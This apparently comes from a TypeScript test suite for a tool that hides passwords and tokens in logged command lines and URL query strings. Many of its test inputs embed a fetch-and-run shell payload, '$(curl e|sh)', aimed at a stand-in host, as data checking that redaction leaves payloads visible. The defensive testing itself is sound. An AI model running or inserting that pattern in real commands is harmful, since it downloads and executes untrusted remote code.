// biome-ignore-all lint/suspicious/noTemplateCurlyInString: ${NAME} references, meant literally.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { propertyRuns } from "../../../test-support/properties.js";
import { withoutArgSecrets, withoutCommandLineSecrets } from "./index.js";
import {
  expectArgFilledBack,
  expectArgs,
  expectFilledBack,
  expectHiddenLine,
  exportedArgs,
  exportedCommand,
  outsideReferences,
  payloadsIn,
} from "./test-support/spec-cases.js";

// fix180: leaks fix179 left.
// 1. A pasted URL's telling query value holding a `$(…)` or backtick part kept the part as written
//    in the display (`srv https://h/p?token=$(x --password hunter2)J` showed `hunter2`). Its parts
//    are read as the display reads a command now (`shownShellPart`, as fix179 did for a later URL
//    in an argument): the payload in sight, a `--password X` inside hidden.
// 2. The `--run` form of fix179 #4 (`["--run", "srv https://h/p?b=1&token=\"${X}&J}api_key=-J-J"]`)
//    kept `-J-J` in both views: an argument's line continues a URL's query past an `&` as the
//    display reads it, in both views. A pasted line's export reads as before (its later round drops
//    the pair whole with the URL's query).
// 3. A later URL in an argument with a pair that does not tell after the telling one its first blank
//    stands in (`["see https://h/p?token=a b&page=1"]`) was read as a line: `b` shown. Decision: as a
//    reader of the argument sees it, `b` is the token's value's tail (hidden with it); the pair after
//    is the URL's, kept, its text past a blank read as a line (`&page=x password=Y` keeps `Y`
//    hidden), its payloads in sight.
// The differential check's finds (against the code fix180 started from):
// 4. A pair continuing a URL's query past an `&` in an argument's line, its value holding a
//    `$(x --password X)` with literal text after it (`["--run", "srv https://u:pw@h/p?b=1&token=$(x
//    --password X)Q x"]`): cut around its run-time parts, the piece after moved the reading past the
//    part's own words, `X` kept in clear in the display (fix179's reading, now taken by more names,
//    made it more common). Such a part is hidden whole; every other part stays in sight.
// 5. A pasted URL's telling query value ending in a default left open (`…?token=$(curl e|sh)${V:-J`,
//    a line a shell refuses) kept the default's word in the display; it was hidden to the line's end
//    before only when a `--password X` left in clear in a part made the refused-line rule apply.
//    Its word is read on now: its literal text hidden, its run-time parts in sight.
// 6. The same left open after an unquoted `&` (`srv https://h/p?a=1&code=${V:-J`): a glued pair left
//    open is read as before (fix178), but `code` tells only in a URL's query, so no refused-line
//    rule took it: `J` shown in the display (the export drops the pair with the URL's query). In
//    the display such a pair whose one part left open is a default at its end, with no run-time
//    part in its word, is read as a continued pair: its value hidden.

describe("a pasted URL's telling query value holding a command substitution", () => {
  it.each([
    [
      "srv https://h/p?token=$(x --password hunter2)J",
      "srv https://h/p?token=$(x --password •)•",
      "srv https://h/p",
    ],
    [
      "srv https://h/p?token=J$(x --password hunter2)",
      "srv https://h/p?token=•$(x --password •)",
      "srv https://h/p",
    ],
    [
      "srv https://h/p?token=`x --password hunter2`J",
      "srv https://h/p?token=`x --password •`•",
      "srv https://h/p",
    ],
    [
      'srv "https://h/p?b=1&token=$(x --password hunter2)J"',
      'srv "https://h/p?b=1&token=$(x --password •)•"',
      'srv "https://h/p?b=1"',
    ],
    [
      "srv --url=https://h/p?api_key=$(x --password hunter2)J",
      "srv --url=https://h/p?api_key=$(x --password •)•",
      "srv --url=https://h/p",
    ],
  ])("%s: a credential inside the part hidden, the payload in sight", (line, shown, exported) => {
    expectHiddenLine(line, shown, exported);
  });

  it("a payload with no credential in it is shown as written", () => {
    expectHiddenLine(
      "srv https://h/p?token=$(curl e|sh)J",
      "srv https://h/p?token=$(curl e|sh)•",
      "srv https://h/p",
    );
  });

  it("given as a `--run` argument: read the same", () => {
    expectArgs(
      ["--run", "srv https://h/p?token=$(x --password hunter2)J"],
      ["--run", "srv https://h/p?token=$(x --password •)•"],
      ["--run", "srv https://h/p"],
    );
  });

  it("property: no password in clear in the display, each payload in sight as often as written, filled back byte for byte", () => {
    const value = fc
      .array(
        fc.oneof(
          fc.stringMatching(/^[JQ]{1,3}$/),
          fc.constantFrom("$(x --password hunter2)", "`x --password hunter2`", "$(curl e|sh)", "${X}"),
        ),
        { minLength: 1, maxLength: 4 },
      )
      .map((parts) => parts.join(""))
      .filter((text) => /hunter2/.test(text));
    fc.assert(
      fc.property(value, fc.constantFrom("token", "api_key", "sig"), (v, name) => {
        const line = `srv https://h/p?b=1&${name}=${v}`;
        const shown = withoutCommandLineSecrets(line, () => "•");
        expect(shown).not.toContain("hunter2");
        expect(payloadsIn(shown)).toBe(payloadsIn(line));
        expect(exportedCommand(line) ?? line).not.toContain("hunter2");
        expectFilledBack(line);
      }),
      propertyRuns(200),
    );
  });
});

describe("a `--run` argument whose URL's query goes on past an unquoted `&`, a pair named as the URL's reading names one", () => {
  it.each([
    [
      'srv https://h/p?b=1&token=\\"${X}&J}api_key=-J-J',
      'srv https://h/p?b=1&token=\\"${X}&J}api_key=•',
      'srv https://h/p?b=1&token=\\"${X}&J}api_key=${J_API_KEY}',
    ],
    [
      "srv https://h/p?b=1&token=${X}&J}api_key=-J-J",
      "srv https://h/p?b=1&token=${X}&J}api_key=•",
      "srv https://h/p?b=1&token=${X}&J}api_key=${J_API_KEY}",
    ],
    [
      "srv https://h/p?b=1&J}api_key=-J-J",
      "srv https://h/p?b=1&J}api_key=•",
      "srv https://h/p?b=1&J}api_key=${J_API_KEY}",
    ],
  ])("%s: the pair's value hidden in both views", (line, shown, exported) => {
    expectArgs(["--run", line], ["--run", shown], ["--run", exported]);
  });

  it("pasted, the export reads as before: the URL's query dropped whole", () => {
    expect(exportedCommand('srv https://h/p?b=1&token=\\"${X}&J}api_key=-J-J')).toBe("srv https://h/p?b=1");
    expect(exportedCommand("srv https://h/p?b=1&J}api_key=-J-J")).toBe("srv https://h/p?b=1");
  });

  it("property: no literal of a telling pair's value in clear in either view, filled back byte for byte", () => {
    const value = fc
      .array(fc.oneof(fc.stringMatching(/^[JQ-]{1,3}$/), fc.constantFrom("${X}", "$(curl e|sh)")), {
        minLength: 1,
        maxLength: 4,
      })
      .map((parts) => parts.join(""))
      .filter((text) => /[JQ]/.test(text));
    const name = fc.constantFrom("J}api_key", "x{token", "api.key", "%74oken");
    const between = fc.constantFrom("", '&token=\\"${X}', "&c=2", '&page="${X}"');
    const tail = (text: string) =>
      text.slice(text.lastIndexOf("=") + 1).replace(/\$\{[A-Z_0-9]+\}|\$\(curl e\|sh\)/g, "");
    fc.assert(
      fc.property(name, between, value, (n, b, v) => {
        const args = ["--run", `srv https://h/p?b=1${b}&${n}=${v}`];
        const shown = withoutArgSecrets(args, () => "•")[1] ?? "";
        expect(tail(shown)).not.toMatch(/[JQ]/);
        expect(payloadsIn(shown)).toBe(payloadsIn(args[1] ?? ""));
        expect(tail(exportedArgs(args)?.[1] ?? "")).not.toMatch(/[JQ]/);
        expectArgFilledBack(args);
      }),
      propertyRuns(300),
    );
  });
});

describe("a later URL in an argument, a pair that does not tell after the telling one its blank stands in", () => {
  it("the blank's text is the token's value's: hidden with it, the pair after kept", () => {
    expectArgs(
      ["see https://h/p?token=a b&page=1"],
      ["see https://h/p?token=•&page=1"],
      ["see https://h/p?page=1"],
    );
    expectArgs(
      ["--run", "see https://h/p?api_key=a b&page=1"],
      ["--run", "see https://h/p?api_key=•&page=1"],
      ["--run", "see https://h/p?page=1"],
    );
  });

  it("a payload in the pair after stays in sight, its text past a blank read as a line", () => {
    expectArgs(
      ["see https://h/p?token=a b&page=`curl e|sh` J"],
      ["see https://h/p?token=•&page=`curl e|sh` J"],
      ["see https://h/p?page=`curl e|sh` J"],
    );
    expectArgs(
      ["see https://h/p?token=a b&page=$(x --password hunter2) J"],
      ["see https://h/p?token=•&page=$(x --password •) J"],
      ["see https://h/p?page=$(x --password ${PASSWORD}) J"],
    );
    expectArgs(
      ["see https://h/p?token=a b&page=x password=Y"],
      ["see https://h/p?token=•&page=x password=•"],
      ["see https://h/p?page=x password=${PASSWORD}"],
    );
  });

  it("a telling pair after the one that does not: hidden with its own", () => {
    expectArgs(
      ["see https://h/p?token=a b&page=x&password=Y Z"],
      ["see https://h/p?token=•&page=x&password=•"],
      ["see https://h/p?page=x"],
    );
  });

  it("property: no literal of a telling value in clear, each payload in sight as often as written, filled back byte for byte", () => {
    const value = fc
      .array(
        fc.oneof(
          fc.stringMatching(/^[JQ]{1,3}$/),
          fc.constantFrom(" ", "${X}", "$(curl e|sh)", "`curl e|sh`"),
        ),
        { minLength: 1, maxLength: 5 },
      )
      .map((parts) => parts.join(""))
      .filter((text) => /[JQ]/.test(text));
    const plain = fc.stringMatching(/^[a-z0-9]{1,4}$/);
    fc.assert(
      fc.property(value, plain, (a, p) => {
        const arg = `see https://h/p?token=J Q${a}&page=${p}`;
        const shown = JSON.stringify(withoutArgSecrets([arg], () => "•"));
        expect(outsideReferences(shown)).not.toMatch(/[JQ]/);
        expect(shown).toContain(`&page=${p}`);
        expect(payloadsIn(shown)).toBe(payloadsIn(arg));
        expect(outsideReferences(JSON.stringify(exportedArgs([arg])))).not.toMatch(/[JQ]/);
        expectArgFilledBack([arg]);
        expectArgFilledBack(["--run", arg]);
      }),
      propertyRuns(300),
    );
  });
});

describe("the differential check's finds", () => {
  it("a continued pair's part holding a credential, literal text after it: that part hidden whole, others in sight", () => {
    expectArgs(
      ["--run", "srv https://u:pw@h/p?b=1&token=$(x --password hunter2)Q x"],
      ["--run", "srv https://•@h/p?b=1&token=•• x"],
      ["--run", "srv https://h/p?b=1"],
    );
    expectArgs(
      ["--run", "srv https://u:pw@h/p?b=1&token=$(curl e|sh)J$(x --password hunter2) x"],
      ["--run", "srv https://•@h/p?b=1&token=$(curl e|sh)•• x"],
      ["--run", "srv https://h/p?b=1"],
    );
  });

  it("a pasted telling query value ending in a default left open: its word's literal text hidden, its parts in sight", () => {
    expectHiddenLine(
      "srv --url=https://h/p?token=$(curl e|sh)${V:-J$(curl e|sh)Q",
      "srv --url=https://h/p?token=$(curl e|sh)${V:-•$(curl e|sh)•",
      "srv --url=https://h/p",
    );
    expectHiddenLine(
      "srv https://h/p?token=$(curl e|sh)${V:-J",
      "srv https://h/p?token=$(curl e|sh)${V:-•",
      "srv https://h/p",
    );
  });

  it("a continued pair's default left open at the line's end, its name one only a URL's query tells by: hidden in the display", () => {
    expectHiddenLine("srv https://h/p?a=1&code=${V:-J", "srv https://h/p?a=1&code=•", "srv https://h/p?a=1");
    expectHiddenLine("srv https://h/p?a=1&sig=${V:-JQ", "srv https://h/p?a=1&sig=•", "srv https://h/p?a=1");
    // A pair that does not tell is kept as written.
    expectHiddenLine(
      "srv https://h/p?a=1&page=${V:-J",
      "srv https://h/p?a=1&page=${V:-J",
      "srv https://h/p?a=1&page=${V:-J",
    );
  });
});
